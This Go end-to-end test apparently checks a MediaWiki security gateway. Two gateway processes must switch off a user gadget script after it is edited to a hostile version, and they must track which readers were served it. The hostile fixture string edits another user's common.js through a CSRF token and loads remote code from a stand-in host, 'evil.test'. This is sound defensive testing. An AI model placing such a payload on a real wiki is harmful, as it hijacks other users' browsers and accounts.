package e2e

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"sallyport/internal/bus/bustest"
	"sallyport/internal/incident"
	"sallyport/internal/mediawiki"
	"sallyport/internal/store"
	"sallyport/internal/store/sqlstore"
	"sallyport/internal/store/storetest/pgtest"
)

// What Mara's script was, and what somebody with her account makes of it: text that looks hostile and goes nowhere. And two pages that
// nobody changes.
const (
	popular     = "User:Mara/tool.js"
	marked      = "User:Ira/mark.js"
	lastMarked  = "User:Ira/last.js"
	markText    = "mw.notify( 'mark' );"
	lastText    = "mw.notify( 'last' );"
	calmText    = "mw.notify( 'calm' );"
	hostileText = "mw.notify( 'hostile' ); new mw.Api().postWithToken( 'csrf', { action: 'edit', title: 'User:Ira/common.js', appendtext: 'x' } ); " +
		"mw.loader.load( 'https://evil.test/more.js' );"
)

const (
	crowd    = 40               // people
	tolerant = 10 * time.Second // a busy machine; the goal is a second
)

// rehearsal is an incident on a wiki with two gateway processes that share a PostgreSQL, a NATS server and a settings file.
type rehearsal struct {
	program
	db     *sqlstore.Store // to look into
	wiki   string          // its id
	gates  [2]*site
	serves [2]*process
	module string
	people []reader
	turn   atomic.Int64

	mu  sync.Mutex
	got []answer
}

// reader is somebody's session; nobody's has no name.
type reader struct{ name, cookies string }

// answer is what somebody was served, between two moments. The text is empty when it was none.
type answer struct {
	who, text string
	gate      int
	from, to  time.Time
}

// newRehearsal begins with everybody having Mara's gadget on.
func newRehearsal(t *testing.T) *rehearsal {
	t.Helper()
	postgres, broker, back := pgtest.Start(t), bustest.Start(t), pretendWiki(t, "")
	r := &rehearsal{program: program{T: t, path: build(t), file: filepath.Join(t.TempDir(), "sallyport.toml")}}
	settings := fmt.Sprintf("listen = \"127.0.0.1:0\"\nconfirm_listen = \"127.0.0.1:0\"\nstore = %q\nbus = %q\n[wiki]\nurl = %q\nscript_path = %q\n[analysis]\ndetonate = false\n[write_door.tiers]\npopular-gadget = \"log\"\n",
		postgres, broker.Address, back.back, back.script)
	if err := os.WriteFile(r.file, []byte(settings), 0o600); err != nil {
		t.Fatal(err)
	}
	back.people("Mara", "Ira")
	back.edit("Ira", marked, markText)
	back.edit("Ira", lastMarked, lastText)
	back.edit("Mara", popular, calmText)
	back.edit("Mara", "User:Mara/tool.gadget", `{ "module": { "pages": [ "`+popular+`" ] } }`)
	for i := range r.gates {
		gate := *back
		r.gates[i] = &gate
		r.begin(i)
	}
	var err error
	if r.db, err = sqlstore.Open(t.Context(), postgres); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = r.db.Close() })
	known, err := mediawiki.New(back.back, back.script, nil, mediawiki.Options{}).Site(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	r.wiki = known.ID
	for _, gate := range r.gates {
		r.module = gate.module("User:Mara/tool")
	}
	for i := range crowd {
		name := fmt.Sprint("Reader ", i)
		back.people(name)
		r.gates[i%2].switchOn(name, r.module)
		r.people = append(r.people, reader{name, r.gates[i%2].as(name).Cookies()})
	}
	r.people = append(r.people, reader{})
	return r
}

// begin starts a gateway.
func (r *rehearsal) begin(i int) {
	r.Helper()
	r.serves[i] = r.serve()
	r.gates[i].front = r.serves[i].front
}

// texts are what is served, by a word that is in them however they are sent.
var texts = map[string]string{"calm": calmText, "hostile": hostileText, "mark": markText, "last": lastText}

// asks has somebody's browser ask a gateway for a page's script or a gadget's module, and notes what it got.
func (r *rehearsal) asks(gate, person int, script string) (text string) {
	inGadget := script == r.module
	path := r.gates[gate].script + "/index.php?action=raw&ctype=text/javascript&title=" + script
	if inGadget {
		path = "/sallyport/load.php?modules=" + script
	}
	who, from := r.people[person], time.Now()
	body, err := browse(r.gates[gate].front+path, who.cookies)
	to := time.Now()
	if err != nil {
		r.Errorf("%s asks gateway %d for %s: %v", who.name, gate, script, err)
		return ""
	}
	refused := strings.Contains(body, "SallyportRefused")
	for word, whole := range texts {
		if strings.Contains(body, word) && !refused {
			if text != "" || !inGadget && store.DigestOf(body) != store.DigestOf(whole) {
				r.Errorf("gateway %d serves another text: %s", gate, body)
			}
			text = whole
		}
	}
	if text == "" && !inGadget && !refused {
		r.Errorf("gateway %d neither serves %s nor refuses it: %q", gate, script, body)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.got = append(r.got, answer{who.name, text, gate, from, to})
	return text
}

// browse asks as a browser does for a script. Whatever becomes of the test, it waits for the answer: the truth is what was served.
func browse(address, cookies string) (body string, err error) {
	req, err := http.NewRequest(http.MethodGet, address, nil)
	if err != nil {
		return "", err
	}
	req.Header.Set("Sec-Fetch-Dest", "script")
	if cookies != "" {
		req.Header.Set("Cookie", cookies)
	}
	resp, err := (&http.Client{Timeout: time.Minute}).Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	all, err := io.ReadAll(resp.Body)
	if err == nil && resp.StatusCode != http.StatusOK {
		err = fmt.Errorf("%s: %s", resp.Status, all)
	}
	return string(all), err
}

// everybody asks both gateways, and how many got a text is returned.
func (r *rehearsal) everybody(text string) (got int) {
	for person := range r.people {
		for gate := range r.gates {
			for _, script := range []string{popular, r.module} {
				if r.asks(gate, person, script) == text {
					got++
				}
			}
		}
	}
	return got
}

// browsing has people ask, one after the other at one gateway and then at the other, until stop is called.
func (r *rehearsal) browsing() (stop func()) {
	done := make(chan struct{})
	var work sync.WaitGroup
	for range 4 {
		work.Go(func() {
			for {
				select {
				case <-done:
					return
				case <-time.After(5 * time.Millisecond):
				}
				n := int(r.turn.Add(1))
				person, gate := n%len(r.people), (n+n/len(r.people))%2
				r.asks(gate, person, popular)
				r.asks(gate, person, r.module)
			}
		})
	}
	stop = sync.OnceFunc(func() {
		close(done)
		work.Wait()
	})
	r.Cleanup(stop)
	return stop
}

// served says when a gateway served the hostile text last, how often it did, and how often people have asked in vain since then.
func (r *rehearsal) served(gate int) (last time.Time, times, since int) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, a := range r.got {
		if a.gate == gate && a.text == hostileText {
			times++
			if a.to.After(last) {
				last = a.to
			}
		}
	}
	for _, a := range r.got {
		if a.gate == gate && a.from.After(last) {
			since++
		}
	}
	return last, times, since
}

// switched waits until something is switched off.
func (r *rehearsal) switched() (off store.Switch) {
	r.Helper()
	eventually(r.T, "something is switched off", func() bool {
		all, err := r.db.SwitchedOff(r.Context(), r.wiki)
		if err != nil {
			r.Fatal(err)
		}
		if len(all) > 0 {
			off = all[0]
		}
		return len(all) > 0
	})
	if off.By != incident.Myself || off.Target != string(store.DigestOf(hostileText)) || !strings.Contains(off.Reason, "gained: can change other people's scripts") {
		r.Fatalf("%+v", off)
	}
	return off
}

// over waits until a gateway has not served the hostile text for a while, though people ask.
func (r *rehearsal) over(gate int, off store.Switch) (late time.Duration) {
	r.Helper()
	var last time.Time
	eventually(r.T, "it is served no more", func() bool {
		var since int
		last, _, since = r.served(gate)
		late = max(0, last.Sub(off.At))
		return time.Since(last) > time.Second && since >= len(r.people) || late > tolerant
	})
	if late > tolerant {
		r.Errorf("gateway %d serves it %s after the switch was written", gate, late)
	}
	return late
}

// killed ends a gateway with kill -9, right after it served everybody one more text and kept to whom. It keeps all that it noted in one
// piece: what was asked for last, on the same connection and by somebody it knows, stands for everything before.
func (r *rehearsal) killed(gate int) {
	r.Helper()
	for person := range r.people {
		if text := r.asks(gate, person, marked); text != markText {
			r.Errorf("gateway %d serves %q", gate, text)
		}
	}
	r.asks(gate, 0, lastMarked)
	eventually(r.T, "it is kept who was served what", func() bool { return len(r.exposure(lastMarked).People) == 1 })
	r.serves[gate].kill()
}

// An incident with real processes: two gateways, of which one is killed in the middle of it.
func TestTwoProcessesSwitchAHostileTextOffAndKnowWhomItReachedThoughOneIsKilled(t *testing.T) {
	r := newRehearsal(t)
	all := 2 * 2 * len(r.people)
	if n := r.everybody(calmText); n != all {
		t.Fatalf("the calm text is served %d times of %d", n, all)
	}
	eventually(t, "the calm text is read", func() bool {
		scripts, err := r.db.ScriptsNamed(t.Context(), r.wiki, []string{popular})
		if err != nil {
			t.Fatal(err)
		}
		return scripts[popular].State == store.ScriptRead
	})

	stop := r.browsing()
	saved := time.Now()
	r.gates[0].editThrough("Mara", popular, hostileText)
	off, reached := r.switched(), 0
	for gate := range r.gates {
		late := r.over(gate, off)
		_, times, since := r.served(gate)
		reached += times
		t.Logf("gateway %d served it %d times; not served %d ms after the switch was written (goal 1000), though asked %d times",
			gate, times, late.Milliseconds(), since)
	}
	stop()
	if reached == 0 {
		t.Error("nobody was served it, so that nothing is proved")
	}
	t.Logf("switched off %s after it was saved: %s", off.At.Sub(saved).Round(time.Millisecond), off.Reason)

	r.killed(1)
	r.begin(1)
	for _, gate := range []int{1, 0} {
		if text := r.asks(gate, 0, popular); text != "" {
			t.Errorf("gateway %d serves %q after the other process was killed", gate, text)
		}
	}
	if n := r.everybody(hostileText); n != 0 {
		t.Errorf("switched off, and served %d times", n)
	}
	r.gates[1].editThrough("Mara", popular, calmText)
	for person := range r.people {
		for gate := range r.gates {
			if text := r.asks(gate, person, popular); text != calmText {
				t.Errorf("gateway %d serves %q when all is well again", gate, text)
			}
		}
	}

	for _, s := range r.serves {
		s.stop()
	}
	r.told(popular, "calm")
	r.told(popular, "hostile")
	r.told(marked, "mark")
}
